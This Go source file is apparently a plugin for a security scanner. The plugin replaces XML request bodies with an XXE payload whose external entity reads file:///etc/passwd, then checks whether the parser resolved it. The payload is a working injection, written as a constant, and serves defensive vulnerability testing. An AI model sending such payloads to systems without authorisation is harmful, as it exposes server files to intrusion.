package plugin

import (
	"fmt"
	"strings"

	"github.com/iastscan/iastscand/internal/record"
	"github.com/iastscan/iastscand/internal/reqbuilder"
)

const xxeEntity = "file:///etc/passwd"

// xxePayload declares an external entity resolving to /etc/passwd and
// references it from the document root, so any XML parser that
// resolves external entities will read the file (§4.6).
const xxePayload = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "` + xxeEntity + `">]><r>&x;</r>`

// XXEBasic replaces an XML request body with one declaring an
// out-of-band external entity, for any body whose first 20 bytes
// begin with "<?xml" (§4.6).
type XXEBasic struct{}

// NewXXEBasic constructs the stock xxe_basic plugin.
func NewXXEBasic() *XXEBasic { return &XXEBasic{} }

func (p *XXEBasic) Info() Info {
	return Info{Name: "xxe_basic", Description: "XML external entity injection"}
}

func (p *XXEBasic) Mutate(rec *record.Record) []*Batch {
	if !looksLikeXML(rec.RawBody) {
		return nil
	}
	d, err := reqbuilder.New(rec)
	if err != nil {
		return nil
	}
	if err := d.Apply(reqbuilder.Mutation{Kind: reqbuilder.MutationBody, RawBody: []byte(xxePayload)}); err != nil {
		return nil
	}
	return []*Batch{{
		Drafts:            []*reqbuilder.Draft{d},
		Feature:           xxeEntity,
		PayloadSequenceID: payloadSequenceID(rec, "xxe_basic", "body", xxePayload),
	}}
}

// looksLikeXML reports whether body's first 20 bytes begin with
// "<?xml", per §4.6's trigger condition.
func looksLikeXML(body []byte) bool {
	probe := body
	if len(probe) > 20 {
		probe = probe[:20]
	}
	return strings.HasPrefix(strings.TrimSpace(string(probe)), "<?xml")
}

func (p *XXEBasic) Check(batch *Batch) (*Finding, error) {
	if len(batch.Replayed) != 1 || batch.Replayed[0] == nil {
		return nil, nil
	}
	corr := batch.Replayed[0]
	if reqbuilder.CheckXXE(corr.Sinks, batch.Feature) {
		return &Finding{
			Description:       "XML external entity injection",
			Message:           fmt.Sprintf("XML parser resolved external entity %s", batch.Feature),
			PayloadSequenceID: batch.PayloadSequenceID,
			Records:           []*record.Record{corr},
		}, nil
	}
	return nil, nil
}
